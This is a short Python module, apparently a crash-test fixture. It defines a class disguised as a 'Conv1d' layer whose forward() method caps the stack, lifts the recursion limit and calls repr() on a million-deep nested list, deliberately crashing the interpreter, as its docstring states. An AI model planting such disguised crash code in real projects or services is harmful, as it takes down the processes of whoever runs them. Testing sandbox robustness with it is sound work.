"""Overflows the C stack: the recursion limit lifted, then a repr that recurses in C far deeper than the stack.

The stack is first capped at 1 MiB (a process may lower its own limit), so the overflow comes after a few
tens of thousands of levels: the payload reaches its effect with little CPU, however slow the machine.
"""

import resource
import sys


class Conv1d:
    def __init__(self, *args):
        pass

    def forward(self, x):
        resource.setrlimit(resource.RLIMIT_STACK, (1 << 20, resource.getrlimit(resource.RLIMIT_STACK)[1]))
        sys.setrecursionlimit(10**8)
        nested = []
        for _ in range(1_000_000):
            nested = [nested]
        return repr(nested)
